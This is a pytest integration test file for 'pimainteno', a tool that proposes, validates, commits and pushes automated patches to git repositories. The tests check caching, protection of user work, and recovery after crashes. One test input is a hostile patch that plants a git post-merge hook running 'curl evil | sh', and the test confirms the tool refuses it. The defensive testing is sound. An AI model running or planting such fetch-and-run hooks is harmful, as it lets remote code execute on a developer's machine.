"""summarize → propose → apply → commit → push and `run`, on real git repositories with real fixers."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pimainteno import db, errors
from pimainteno.commands.demo import make_sample
from pimainteno.pipeline.propose import SUMMARY_MARKER
from tests.conftest import run_cli, run_git

PY = sys.executable
RUFF_FIX = [PY, "-m", "ruff", "check", "--fix", "--quiet", "--exit-zero", "."]
TESTS = [PY, "-m", "unittest", "discover", "-q"]


def toml_list(items: list[str]) -> str:
    return "[" + ", ".join(json.dumps(i) for i in items) + "]"


def configure(tmp_path: Path, *, command: list[str] | str = RUFF_FIX, mode: str = "push", extra: str = "") -> Path:
    repo, _ = make_sample(tmp_path)
    cmd = toml_list(command) if isinstance(command, list) else json.dumps(command)
    (tmp_path / "PiMainteno.toml").write_text(
        f'[llm]\nprovider = "command"\ncommand = {cmd}\n\n'
        f'[[project]]\nname = "app"\npath = "{repo}"\nbranch = "main"\ntest = {toml_list(TESTS)}\n'
        f'mode = "{mode}"\ntest_timeout = 60\n{extra}'
    )
    return repo


def fingerprint(repo: Path) -> tuple[str, str, str]:
    """HEAD, `git status`, and a hash of every file in the work tree and of the index's entries.

    The summary file (codex.md) is pimainteno's one intended write, kept out of `git status`.
    """
    h = hashlib.sha256()
    for path in sorted(p for p in repo.rglob("*") if p.is_file() and ".git" not in p.relative_to(repo).parts[:1]):
        if path.name != "codex.md":
            h.update(str(path.relative_to(repo)).encode() + b"\0" + path.read_bytes())
    h.update(run_git(repo, "ls-files", "--stage").encode())
    return run_git(repo, "rev-parse", "HEAD"), run_git(repo, "status", "--porcelain"), h.hexdigest()


def database(tmp_path: Path) -> db.sqlite_utils.Database:
    return db.open_db(tmp_path / "state" / "pimainteno.db")


def count(tmp_path: Path, sql: str) -> int:
    return database(tmp_path).execute(sql).fetchone()[0]


def test_summarize_is_cached_by_head_and_never_dirties_the_repo(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    first = run_cli("summarize", "app")
    assert first.returncode == 0, first.stderr
    assert first.stdout.startswith("# app\n") and "A tiny temperature converter" in first.stdout
    assert (repo / "codex.md").read_text() == SUMMARY_MARKER + "\n" + first.stdout
    assert run_git(repo, "status", "--porcelain") == ""
    second = run_cli("summarize", "app")
    assert second.stdout == first.stdout
    assert count(tmp_path, "select count(*) from llm_calls where purpose = 'summary'") == 1
    forced = run_cli("summarize", "app", "--force", "--json")
    assert json.loads(forced.stdout)["cached"] is False
    assert count(tmp_path, "select count(*) from llm_calls where purpose = 'summary'") == 2


def test_tracked_summary_file_is_never_overwritten(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    (repo / "codex.md").write_text("my own notes\n")
    run_git(repo, "add", "codex.md")
    run_git(repo, "commit", "-qm", "notes")
    assert run_cli("summarize", "app").returncode == 0
    assert (repo / "codex.md").read_text() == "my own notes\n"


def test_propose_prints_an_applicable_patch_and_leaves_the_tree_alone(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    before = fingerprint(repo)
    result = run_cli("propose", "app")
    assert result.returncode == 0, result.stderr
    patch = result.stdout
    assert patch.startswith("# pimainteno project=app proposal=1\n")
    assert "-import os" in patch and "-from typing import List" in patch
    check = subprocess.run(["git", "-C", str(repo), "apply", "--check", "-"], input=patch, text=True)
    assert check.returncode == 0
    after = fingerprint(repo)
    assert after == before
    row = database(tmp_path).execute("select status, files, added, removed, base_head from proposals").fetchone()
    assert row == ("proposed", '["demo_app/convert.py"]', 0, 3, before[0].strip())
    assert not list((tmp_path / "state" / "worktrees").iterdir()), "worktree left behind"


def test_propose_signal_makes_no_model_call_when_nothing_changed(tmp_path: Path) -> None:
    configure(tmp_path)
    assert run_cli("propose", "app").stdout
    calls = count(tmp_path, "select count(*) from llm_calls")
    again = run_cli("propose", "app")
    assert again.returncode == 0 and again.stdout == ""
    assert "nothing to propose: HEAD" in again.stderr
    assert count(tmp_path, "select count(*) from llm_calls") == calls
    forced = run_cli("propose", "app", "--reason", "look again")
    assert forced.returncode == 0
    assert count(tmp_path, "select count(*) from llm_calls where purpose = 'patch'") == 2


def test_fixer_that_changes_nothing_proposes_nothing(tmp_path: Path) -> None:
    configure(tmp_path, command="true")
    result = run_cli("propose", "app")
    assert result.returncode == 0 and result.stdout == ""
    assert "changed nothing" in result.stderr


def test_missing_fixer_is_one_line_and_recorded(tmp_path: Path) -> None:
    repo = configure(tmp_path, command=["/nonexistent/fixer"])
    before = fingerprint(repo)
    result = run_cli("propose", "app")
    assert result.returncode == errors.TOOL_FAILED
    assert (
        result.stderr.strip()
        .splitlines()[-1]
        .startswith("Error: command failed to propose a patch for app: cannot run")
    )
    assert count(tmp_path, "select count(*) from llm_calls where outcome = 'error'") == 1
    assert fingerprint(repo)[2] == before[2]


def test_by_hand_propose_apply_commit_push(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    patch = run_cli("propose", "app").stdout
    applied = run_cli("apply", input=patch)
    assert applied.returncode == 0, applied.stderr
    assert run_git(repo, "status", "--porcelain").startswith("M  demo_app/convert.py")
    committed = run_cli("commit", "app")
    assert committed.returncode == 0, committed.stderr
    message = run_git(repo, "log", "-1", "--format=%an <%ae>%n%B")
    assert "Apply ruff fixes to convert.py" in message and "Pimainteno-Proposal: 1" in message
    assert message.startswith("pimainteno <pimainteno@")
    pushed = run_cli("push", "app")
    assert pushed.returncode == 0, pushed.stderr
    remote = tmp_path / "remote.git"
    assert run_git(remote, "rev-parse", "main") == run_git(repo, "rev-parse", "HEAD")
    row = database(tmp_path).execute("select status from proposals where id = 1").fetchone()
    assert row == ("pushed",)


def test_apply_check_changes_nothing(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    patch = run_cli("propose", "app").stdout
    before = fingerprint(repo)
    result = run_cli("apply", "--check", "-", input=patch)
    assert result.returncode == 0 and fingerprint(repo) == before


def test_apply_refuses_when_user_work_is_in_a_touched_file(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    patch = run_cli("propose", "app").stdout
    target = repo / "demo_app" / "convert.py"
    target.write_text(target.read_text() + "\n# my work in progress\n")
    before = fingerprint(repo)
    result = run_cli("apply", input=patch)
    assert result.returncode == errors.BAD_INPUT
    assert "uncommitted changes in demo_app/convert.py" in result.stderr
    assert fingerprint(repo) == before


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        ("# pimainteno project=other proposal=3\ndiff --git a/x b/x\n", "unknown project 'other'"),
        (
            "diff --git a/.git/hooks/post-merge b/.git/hooks/post-merge\nnew file mode 100755\n--- /dev/null\n"
            "+++ b/.git/hooks/post-merge\n@@ -0,0 +1 @@\n+curl evil | sh\n",
            ".git",
        ),
        (
            "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1,1 +1,1 @@\n-# not the text\n+x\n",
            "does not apply",
        ),
    ],
)
def test_hostile_or_broken_patch_is_refused_and_changes_nothing(tmp_path: Path, patch: str, reason: str) -> None:
    repo = configure(tmp_path)
    before = fingerprint(repo)
    args = ["apply"] if patch.startswith("# pimainteno") or not patch else ["apply", "--project", "app"]
    result = run_cli(*args, input=patch)
    assert result.returncode == errors.BAD_INPUT, result.stderr
    assert reason in result.stderr and "Traceback" not in result.stderr
    assert fingerprint(repo) == before


def test_run_proves_commits_and_pushes_keeping_user_work_elsewhere(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    (repo / "README.md").write_text("# demo-app\n\nMy unsaved edit.\n")
    (repo / "notes.txt").write_text("untracked notes\n")
    result = run_cli("run", "app")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("app: ok — run #1 — proposal #1 — commit ")
    assert (repo / "README.md").read_text() == "# demo-app\n\nMy unsaved edit.\n"
    assert (repo / "notes.txt").read_text() == "untracked notes\n"
    assert run_git(repo, "show", "--name-only", "--format=", "HEAD").split() == ["demo_app/convert.py"]
    assert run_git(tmp_path / "remote.git", "rev-parse", "main") == run_git(repo, "rev-parse", "HEAD")
    run = database(tmp_path).execute("select status, trigger, steps from runs").fetchone()
    assert run[:2] == ("ok", "cli")
    steps = json.loads(run[2])
    assert [s["step"] for s in steps] == ["summarize", "propose", "validate", "commit", "merge", "push", "restart"]
    assert steps[-1]["outcome"] == "skipped"  # no systemd here: the restart is skipped, not failed
    again = run_cli("run", "--all")
    assert again.returncode == 0 and "app: nothing" in again.stdout


BREAK = [PY, "-c", "import pathlib; p = pathlib.Path('demo_app/convert.py'); "
         "p.write_text(p.read_text().replace('* 9 / 5 + 32', '* 2'))"]  # fmt: skip


def test_a_patch_that_breaks_the_tests_is_never_committed(tmp_path: Path) -> None:
    repo = configure(tmp_path, command=BREAK)
    before = fingerprint(repo)
    result = run_cli("run", "app")
    assert result.returncode == errors.VALIDATION_FAILED
    assert "rejected" in result.stdout and "the tests failed" in result.stdout
    assert fingerprint(repo)[:1] == before[:1] and fingerprint(repo)[2] == before[2]
    assert run_git(tmp_path / "remote.git", "rev-parse", "main") == before[0]
    d = database(tmp_path)
    rows = d.execute("select status, test_output from proposals order by id").fetchall()
    # One retry by default; the fixer made the same change again, which is not tested twice (memory).
    assert [r[0] for r in rows] == ["rejected", "discarded"]
    assert "FAIL" in rows[0][1] or "Error" in rows[0][1]
    assert d.execute("select count(*) from llm_calls where purpose = 'patch'").fetchone()[0] == 2
    assert d.execute("select count(*) from commits").fetchone()[0] == 0


def logging_fixer(log: Path, then: str = "") -> list[str]:
    """A fixer that records the prompt it was given (PIMAINTENO_PROMPT), then runs `then`."""
    return [PY, "-c", f"import os, pathlib; open({str(log)!r}, 'a').write(os.environ['PIMAINTENO_PROMPT'] + '<<END>>'); "
            + then]  # fmt: skip


def test_prompt_carries_the_context_within_budget(tmp_path: Path) -> None:
    log = tmp_path / "prompts.log"
    configure(tmp_path, command=logging_fixer(log))
    assert run_cli("propose", "app", "--reason", "first").returncode == 0
    prompt = log.read_text().split("<<END>>")[0]
    assert "## Why now\n\nfirst" in prompt and "## Project summary" in prompt and "# app" in prompt
    assert len(prompt.encode()) <= 32_000


def test_retry_prompt_carries_the_failing_test_output(tmp_path: Path) -> None:
    log = tmp_path / "prompts.log"
    configure(tmp_path, command=logging_fixer(log, BREAK[2]))
    assert run_cli("run", "app").returncode == errors.VALIDATION_FAILED
    first, second = log.read_text().split("<<END>>")[:2]
    assert "The previous proposal failed the tests with" not in first
    assert "## The previous proposal failed the tests with" in second and "AssertionError" in second


def test_mode_propose_stops_after_proposing(tmp_path: Path) -> None:
    repo = configure(tmp_path, mode="propose")
    before = fingerprint(repo)
    result = run_cli("run", "app")
    assert result.returncode == 0 and "app: ok" in result.stdout
    assert fingerprint(repo)[0] == before[0]
    assert database(tmp_path).execute("select status from proposals").fetchone() == ("proposed",)


def test_mode_commit_does_not_push(tmp_path: Path) -> None:
    repo = configure(tmp_path, mode="commit")
    start = run_git(repo, "rev-parse", "HEAD")
    assert run_cli("run", "app").returncode == 0
    assert run_git(repo, "rev-parse", "HEAD") != start
    assert run_git(tmp_path / "remote.git", "rev-parse", "main") == start


def test_rejected_push_keeps_the_commit_local(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "-q", str(tmp_path / "remote.git"), str(other)], check=True)
    (other / "CHANGES").write_text("upstream moved on\n")
    run_git(other, "add", "CHANGES")
    run_git(other, "commit", "-qm", "upstream")
    run_git(other, "push", "-q", "origin", "HEAD:main")
    result = run_cli("run", "app")
    assert result.returncode == errors.TOOL_FAILED
    assert "rejected (not a fast-forward)" in result.stdout
    local = run_git(repo, "log", "-1", "--format=%s")
    assert local.startswith("Apply ruff fixes")
    row = database(tmp_path).execute("select pushed_at, push_error from commits").fetchone()
    assert row[0] is None and "not a fast-forward" in row[1]


def test_two_concurrent_runs_one_reports_already_running(tmp_path: Path) -> None:
    configure(tmp_path, command=[PY, "-c", "import time; time.sleep(4)"])
    first = subprocess.Popen([PY, "-m", "pimainteno", "run", "app"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True)  # fmt: skip
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if (tmp_path / "state" / "locks" / "app.lock").exists() and count(
            tmp_path, "select count(*) from runs where status = 'running'"
        ):
            break
        time.sleep(0.1)
    second = run_cli("run", "app")
    out, err = first.communicate(timeout=60)
    assert second.returncode == 0 and "already running" in second.stderr
    assert "app: already-running" in second.stdout
    assert first.returncode == 0 and "app: nothing" in out
    assert count(tmp_path, "select count(*) from runs") == 1


def kill_parent_script() -> str:
    return "#!/bin/sh\nkill -KILL $PIMAINTENO_VICTIM\nsleep 5\n"


# No "merge": pimainteno's fast-forward runs no hooks (git.py), so nothing of the project's can kill it there.
@pytest.mark.parametrize("where", ["propose", "validate", "push"])
def test_killed_run_leaves_a_consistent_repo_and_the_next_run_succeeds(tmp_path: Path, where: str) -> None:
    # In the proof sandbox the tests cannot see pimainteno's process to kill it: validate is killed unsandboxed.
    repo = configure(tmp_path, extra="sandbox = false\n" if where == "validate" else "")
    killer = tmp_path / "kill.sh"
    killer.write_text(kill_parent_script())
    killer.chmod(0o755)
    env = dict(os.environ)
    if where == "propose":
        configure_cmd = ["/bin/sh", str(killer)]
        (tmp_path / "PiMainteno.toml").write_text(
            (tmp_path / "PiMainteno.toml").read_text().replace(toml_list(RUFF_FIX), toml_list(configure_cmd))
        )
    elif where == "validate":
        (tmp_path / "PiMainteno.toml").write_text(
            (tmp_path / "PiMainteno.toml").read_text().replace(toml_list(TESTS), toml_list(["/bin/sh", str(killer)]))
        )
    elif where == "merge":
        # pimainteno's own merge runs no repository hooks, so a `git` on PATH that dies right after merging
        real_git = shutil.which("git")
        wrapper = tmp_path / "bin" / "git"
        wrapper.parent.mkdir()
        wrapper.write_text(
            f'#!/bin/sh\nfor a in "$@"; do [ "$a" = merge ] && {{ "{real_git}" "$@"; kill -KILL $PIMAINTENO_VICTIM; sleep 5; }}; done\n'
            f'exec "{real_git}" "$@"\n'
        )
        wrapper.chmod(0o755)
        env["PATH"] = f"{wrapper.parent}:{env['PATH']}"
    else:
        (repo / ".git" / "hooks" / "pre-push").write_text(kill_parent_script())
        (repo / ".git" / "hooks" / "pre-push").chmod(0o755)
    (repo / "README.md").write_text("# demo-app\n\nuser work\n")
    before = fingerprint(repo)
    # The victim is the run itself: its children (fixer, tests, git hooks) learn its pid from the environment.
    proc = subprocess.Popen([PY, "-c", "import os, sys; os.environ['PIMAINTENO_VICTIM'] = str(os.getpid()); "
                             "from pimainteno.cli import main; main(['run', 'app'])"], text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)  # fmt: skip
    proc.communicate(timeout=120)
    assert proc.returncode == -signal.SIGKILL
    head, status, files = fingerprint(repo)
    assert " M README.md" in status and (repo / "README.md").read_text() == "# demo-app\n\nuser work\n"
    if head == before[0]:
        assert (repo / "demo_app" / "convert.py").read_text().startswith("import os")  # untouched
    else:
        assert run_git(repo, "log", "-1", "--format=%s").startswith("Apply ruff fixes")  # whole commit
        assert (repo / "demo_app" / "convert.py").read_text().startswith("\n")
    for hook in ("post-merge", "pre-push"):
        (repo / ".git" / "hooks" / hook).unlink(missing_ok=True)
    (tmp_path / "PiMainteno.toml").write_text(
        (tmp_path / "PiMainteno.toml")
        .read_text()
        .replace(
            f'"/bin/sh", "{killer}"', ", ".join(json.dumps(x) for x in (RUFF_FIX if where == "propose" else TESTS))
        )
    )
    after = run_cli("run", "app", "--reason", "try again")
    assert after.returncode == 0, after.stdout + after.stderr
    assert "app: ok" in after.stdout or "app: nothing" in after.stdout
    d = database(tmp_path)
    assert d.execute("select status from runs order by id").fetchall()[0] == ("interrupted",)
    assert run_git(tmp_path / "remote.git", "rev-parse", "main") == run_git(repo, "rev-parse", "HEAD")
    assert not list((tmp_path / "state" / "worktrees").iterdir())


def test_demo_runs_offline(tmp_path: Path) -> None:
    argv = [PY, "-m", "pimainteno", "demo", str(tmp_path / "demo")]
    if os.geteuid() == 0 and Path("/usr/bin/unshare").exists():
        argv = ["unshare", "--net", *argv]  # prove it needs no network
    result = subprocess.run(argv, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "Result: demo-app: ok" in result.stdout and "-import os" in result.stdout
    remote = tmp_path / "demo" / "remote.git"
    assert run_git(remote, "log", "-1", "--format=%s", "main").startswith("Apply ruff fixes")
